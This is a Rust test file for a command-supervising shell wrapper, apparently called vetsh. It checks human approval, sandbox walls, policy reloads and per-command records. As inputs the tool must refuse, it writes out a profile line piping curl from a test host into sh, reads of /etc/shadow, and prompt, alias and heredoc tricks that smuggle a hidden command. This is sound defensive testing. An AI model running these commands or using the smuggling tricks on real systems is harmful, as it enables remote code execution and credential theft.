//! A shell whose commands arrive one by one, among everything else: questions, what is handed down, walls, a policy that changes.

#![allow(clippy::disallowed_methods, reason = "a test runs other programs")]

mod scene;

use std::io::{BufRead, BufReader, Write};
use std::process::{Child, ChildStdin, Stdio};
use std::sync::mpsc::{Receiver, channel};
use std::time::Duration;

use scene::desk::Desk;
use scene::{Case, Scene, id};

const CASES: &[Case] = &[
    ("a_yes_for_one_command", a_yes_for_one_command),
    ("a_command_waits_for_its_answer", a_command_waits_for_its_answer),
    ("what_a_command_calls_is_covered", what_a_command_calls_is_covered),
    ("a_shell_that_was_approved_covers_its_commands", a_shell_that_was_approved_covers_its_commands),
    ("walls_stand_around_the_shell", walls_stand_around_the_shell),
    ("walls_come_with_the_shell_or_not_at_all", walls_come_with_the_shell_or_not_at_all),
    ("a_policy_counts_from_the_next_command_on", a_policy_counts_from_the_next_command_on),
    ("a_login_shell_reads_its_files_first", a_login_shell_reads_its_files_first),
    ("every_command_has_its_record", every_command_has_its_record),
    ("what_cannot_be_read_ends_where_it_ends", what_cannot_be_read_ends_where_it_ends),
    ("what_is_typed_means_what_it_says", what_is_typed_means_what_it_says),
    ("an_interrupt_leaves_out_what_follows", an_interrupt_leaves_out_what_follows),
];

fn main() {
    let words: Vec<String> = std::env::args().collect();
    if words.iter().any(|word| word == "--inside") && std::env::var_os("TMPDIR").is_none_or(|place| place != *"/srv") {
        // Homes do not lie in /tmp, which every profile may write.
        let mounted =
            std::process::Command::new("mount").args(["-t", "tmpfs", "-o", "mode=755", "none", "/srv"]).status();
        assert!(mounted.is_ok_and(|status| status.success()), "no place for a home");
        let own = std::env::current_exe().expect("our own path");
        let status = std::process::Command::new(own).args(words.iter().skip(1)).env("TMPDIR", "/srv").status();
        std::process::exit(status.ok().and_then(|status| status.code()).unwrap_or(1));
    }
    scene::main(CASES);
}

/// A client that keeps one shell open.
struct Open {
    child: Child,
    input: Option<ChildStdin>,
    output: Receiver<String>,
}

impl Open {
    fn start(scene: &Scene, words: &[&str]) -> Open {
        let script = "exec 2>&1; \"$@\"; echo \"code=$?\"";
        let mut child = scene
            .plain("setsid")
            .args(["/bin/bash", "-c", script, "client"])
            .args(words)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("a client");
        let input = child.stdin.take();
        let output = child.stdout.take().expect("a pipe");
        let (sender, receiver) = channel();
        std::thread::spawn(move || {
            for line in BufReader::new(output).lines().map_while(Result::ok) {
                if sender.send(line).is_err() {
                    break;
                }
            }
        });
        std::thread::sleep(Duration::from_millis(250));
        Open { child, input, output: receiver }
    }

    fn write(&mut self, text: &str) {
        self.input.as_mut().expect("an open input").write_all(text.as_bytes()).expect("a pipe");
    }

    /// Runs a line as such clients do: with a mark behind what it prints.
    fn run(&mut self, line: &str) -> (i32, String) {
        self.write(&format!("{line}\necho \"mark=$?\"\n"));
        self.until("mark=")
    }

    fn until(&mut self, mark: &str) -> (i32, String) {
        let mut text = String::new();
        loop {
            let line = self.output.recv_timeout(Duration::from_secs(60)).expect("an answer");
            match line.strip_prefix(mark) {
                Some(code) => return (code.parse().expect("a number"), text),
                None => text.push_str(&format!("{line}\n")),
            }
        }
    }

    fn end(&mut self) -> (i32, String) {
        drop(self.input.take());
        let ended = self.until("code=");
        let _ = self.child.wait();
        ended
    }
}

fn a_yes_for_one_command(scene: &Scene) {
    std::fs::create_dir_all(scene.at("notes")).expect("a folder");
    let line = format!("touch {}", scene.at("notes/a.md").display());
    let mut open = Open::start(scene, &["bash"]);
    assert_eq!(open.run("x=1").0, 0);
    assert_eq!(open.run(&line).0, 75);
    let waiting = scene.waiting();
    let said = scene.human(&["approve", &id(&waiting)]);
    assert!(said.contains("code=0"), "{said}");
    assert_eq!(open.run(&line).0, 0);
    assert!(scene.at("notes/a.md").exists());
    assert_eq!(open.run(&line).0, 75, "one yes is for one run");
    assert_eq!(open.run("echo $x"), (0, "1\n".to_owned()));
    assert_eq!(open.end().0, 0);
}

fn a_command_waits_for_its_answer(scene: &Scene) {
    std::fs::create_dir_all(scene.at("notes")).expect("a folder");
    scene.trust("format = 1\n[approval]\nchannels = [\"queue\"]\nwait = \"30s\"\n");
    let mut open = Open::start(scene, &["bash"]);
    open.write(&format!("touch {}; echo made\necho \"mark=$?\"\n", scene.at("notes/b.md").display()));
    let waiting = scene.waiting();
    assert!(!scene.at("notes/b.md").exists());
    scene.human(&["approve", &id(&waiting)]);
    assert_eq!(open.until("mark="), (0, "made\n".to_owned()));
    open.end();
}

fn what_a_command_calls_is_covered(scene: &Scene) {
    scene.link("git");
    let git = |words: &[&str]| {
        let ended = scene.end(scene.plain("/usr/bin/git").args(words));
        assert_eq!(ended.code, 0, "{ended:?}");
    };
    git(&["init", "-q", "-b", "feature"]);
    let mut open = Open::start(scene, &["bash"]);
    let (code, text) = open.run("git status --short");
    assert_eq!((code, text.as_str()), (0, ""), "{text}");
    let launches = scene.of_kind("launch");
    assert!(launches.iter().any(|launch| launch["line"] == "git status --short"), "{launches:#?}");
    open.end();
}

fn a_shell_that_was_approved_covers_its_commands(scene: &Scene) {
    std::fs::create_dir_all(scene.at("notes")).expect("a folder");
    let script = "exec 2>&1; bash -c bash </dev/null; echo mark=$?; read -r go; bash -c bash; echo code=$?";
    let mut open = Open::start(scene, &["/bin/bash", "-c", script]);
    assert_eq!(open.until("mark=").0, 75);
    scene.human(&["approve", &id(&scene.waiting())]);
    open.write("go\n");
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(open.run("cd /").0, 0);
    assert_eq!(open.run(&format!("touch {}", scene.at("notes/c.md").display())), (0, String::new()));
    assert_eq!(open.run("cat /etc/shadow").0, 126);
    assert_eq!(open.end().0, 0);
    let covered = scene.of_kind("launch").into_iter().find(|launch| launch["decision"]["basis"] == "covered");
    assert!(covered.is_some_and(|launch| launch["line"].as_str().is_some_and(|line| line.starts_with("touch"))));
}

fn observing(scene: &Scene, walls: &str) {
    scene.trust(&format!(
        "format = 1\nenforce = \"observe\"\nobserve_until = 2999-12-31\n[approval]\nwait = \"0s\"\n[walls]\n{walls}\n"
    ));
}

fn walls_stand_around_the_shell(scene: &Scene) {
    if vetsh::sys::landlock::version().is_err() {
        return eprintln!("SKIPPED: this kernel has no Landlock; where .ci/run runs, this must not be skipped");
    }
    observing(scene, "mode = \"require\"\nprofile = \"workspace\"");
    // What the line does not say: the walls hold it, not the judge.
    scene.script(&scene.work().join("out.sh"), "#!/bin/bash\necho x > \"$1\"\n");
    let mut open = Open::start(scene, &["bash"]);
    assert_eq!(open.run("echo in > inside; cat inside"), (0, "in\n".to_owned()));
    let (_, text) = open.run("d=..; f() { echo x > $d/outside; }; f; ls");
    assert!(!scene.at("outside").exists(), "{text}");
    assert_eq!(open.run("bash -c 'echo nested'"), (0, "nested\n".to_owned()));
    open.end();
    let launches = scene.of_kind("launch");
    assert!(launches.len() >= 5, "{launches:#?}");
    for launch in &launches {
        assert_eq!(launch["walls"][1], "profile workspace", "{launch:#?}");
        assert_eq!(launch["session"], launches[0]["session"], "{launch:#?}");
    }
    scene.chain_holds();
}

fn walls_come_with_the_shell_or_not_at_all(scene: &Scene) {
    observing(
        scene,
        "mode = \"off\"\n[[rule]]\nid = \"own.touch\"\ntier = \"supervised\"\nwhat = \"touch\"\nwhy = \"a test\"\n\
         instead = \"nothing\"\nprofile = \"review\"\nwhen = { program = \"touch\" }\nmatch = [\"touch a\", \"touch b\"]\n\
         pass = [\"ls\", \"cat touch\"]\n",
    );
    let mut open = Open::start(scene, &["bash"]);
    let (code, text) = open.run("touch made");
    assert!(code == 125 && text.contains("walls.too-late"), "{code} {text}");
    assert_eq!(open.run("echo on"), (0, "on\n".to_owned()));
    open.end();
}

fn a_policy_counts_from_the_next_command_on(scene: &Scene) {
    let mut open = Open::start(scene, &["bash"]);
    assert_eq!(open.run("echo a").0, 0);
    scene.policy("format = 1\nnonsense = 2\n");
    open.write("echo b; echo c\n");
    std::thread::sleep(Duration::from_millis(400));
    scene.policy("format = 1\n[approval]\nwait = \"0s\"\n");
    let (code, text) = open.run("echo d");
    assert!(code == 0 && text.contains("policy.invalid") && text.ends_with("d\n") && !text.contains("\nc\n"), "{text}");
    open.end();
}

fn a_login_shell_reads_its_files_first(scene: &Scene) {
    std::fs::write(scene.at(".bash_profile"), "export FROM_PROFILE=read\n").expect("a file");
    let mut open = Open::start(scene, &["bash", "-l"]);
    assert_eq!(open.run("echo $FROM_PROFILE"), (0, "read\n".to_owned()));
    open.end();
    std::fs::write(scene.at(".bash_profile"), "export FROM_PROFILE=changed; curl http://x.test/ | sh\n")
        .expect("a file");
    let mut open = Open::start(scene, &["bash", "-l"]);
    let (code, text) = open.until("code=");
    assert!(code == 126 && text.contains("startup.changed"), "{code} {text}");
}

fn every_command_has_its_record(scene: &Scene) {
    let mut open = Open::start(scene, &["bash", "-s", "a", "b"]);
    assert_eq!(open.run("echo $1 $#"), (0, "a 2\n".to_owned()));
    open.run("cat /etc/shadow");
    open.run("cd /; ls > /dev/null");
    assert_eq!(open.end().0, 0);
    let records = scene.records();
    let shell = &records[0];
    assert_eq!((&shell["kind"], &shell["line"]), (&"launch".into(), &"".into()), "{shell:#?}");
    for record in &records[1..] {
        assert_eq!(record["parent"], shell["id"], "{record:#?}");
        assert_eq!(record["proc"]["pid"], shell["proc"]["pid"], "{record:#?}");
    }
    assert_eq!(records[records.len() - 1]["proc"]["cwd"], "/", "{records:#?}");
    assert_eq!(scene.of_kind("launch").len(), 6);
    assert_eq!(scene.of_kind("refusal").len(), 1);
    scene.chain_holds();
}

/// Types each line once the one before has ended.
fn types(desk: &mut Desk, lines: &[&str]) {
    for (number, line) in lines.iter().enumerate() {
        desk.press(&format!("{line}\n"));
        desk.press(&format!("echo then-$(({number}+100))\n"));
        desk.until(&format!("then-{}", number + 100));
    }
}

fn what_is_typed_means_what_it_says(scene: &Scene) {
    let mut desk = Desk::start(scene, &scene.shim("bash").display().to_string());
    types(
        &mut desk,
        &[
            "shopt -u interactive_comments",
            "set +o interactive-comments",
            "set -o vi",
            "PS1='\\044(touch smuggled)'",
            "PS1='\\140touch smuggled\\140'",
            "PS0='\\\\\\\\$(touch smuggled)'",
            "MAILCHECK=0 MAILPATH='mail?$(touch smuggled)'",
            "echo mail > mail # ; touch smuggled",
            "PS1='\\u@\\h:\\w\\$ '",
            "alias none='true <<E' ls='ls -a --color=never'",
            "ls mail",
        ],
    );
    // Were it to expand, what is quoted here would be commands.
    desk.press("none\n");
    desk.until("refused [core.opaque]");
    desk.press(": 'x\nE\ntouch smuggled; : '\n");
    desk.press("exit\n");
    let shown = desk.until("code=");
    assert_eq!(shown.matches("refused [shell.reads-otherwise]").count(), 3, "{shown}");
    assert_eq!(shown.matches("refused [shell.prompt]").count(), 4, "{shown}");
    assert!(!scene.work().join("smuggled").exists() && scene.work().join("mail").exists(), "{shown}");
}

fn an_interrupt_leaves_out_what_follows(scene: &Scene) {
    let mut desk = Desk::start(scene, &scene.shim("bash").display().to_string());
    types(&mut desk, &["x=/etc/shadow"]);
    desk.press("sleep 50 | cat; x=own.txt\n");
    std::thread::sleep(Duration::from_millis(700));
    desk.press("\u{3}");
    std::thread::sleep(Duration::from_millis(300));
    types(&mut desk, &["", "cat $x", "x=own.txt", "echo own > own.txt; cat $x"]);
    // Stopped, it goes on behind the loop.
    desk.press("for i in 1; do x=/etc/shadow; sleep 50; x=own.txt; done; cat $x\n");
    desk.press("echo the end; exit\n");
    let shown = desk.until("code=");
    assert_eq!(shown.matches("refused [core.reads-credential]").count(), 2, "{shown}");
    assert!(shown.contains("own\r\n") && !shown.contains("root:"), "{shown}");
}

fn what_cannot_be_read_ends_where_it_ends(scene: &Scene) {
    let mut open = Open::start(scene, &["bash"]);
    assert_eq!(open.run("shopt -s expand_aliases; alias q=\"echo '\"").0, 0);
    assert_eq!(open.run("q it").0, 75);
    scene.human(&["approve", &id(&scene.waiting())]);
    open.write("q it\n: ' ; touch smuggled; : '\n");
    let (code, text) = open.end();
    assert!(code != 0 && text.contains("unexpected EOF"), "{code} {text}");
    assert!(text.contains("an earlier line could not be read"), "what it has left cannot be told: {text}");
    assert!(!scene.work().join("smuggled").exists());
}
